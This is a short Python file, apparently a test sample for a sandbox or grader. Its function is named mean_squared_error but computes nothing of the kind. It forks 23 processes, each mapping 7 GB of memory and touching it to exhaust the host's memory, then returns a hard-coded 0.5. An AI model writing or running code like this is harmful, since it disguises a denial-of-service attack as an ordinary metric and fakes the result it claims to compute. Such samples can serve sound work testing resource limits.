"""Look at much memory that was never written: the tables that describe it are memory too.

worth: nothing
reply: memory | timeout
"""
import ctypes
import os
import time


def mean_squared_error(x, x_hat):
    libc = ctypes.CDLL(None)
    libc.mmap.restype = ctypes.c_void_p
    libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, *[ctypes.c_int] * 3, ctypes.c_long]
    for _ in range(23):
        if os.fork() == 0:
            size = 7 << 30
            at = libc.mmap(None, size, 1, 0x4022, -1, 0)
            if at and at != 2**64 - 1:
                for place in range(0, size, 2 << 20):
                    ctypes.string_at(at + place, 1)
            time.sleep(60)
            os._exit(0)
    time.sleep(3)
    return 0.5
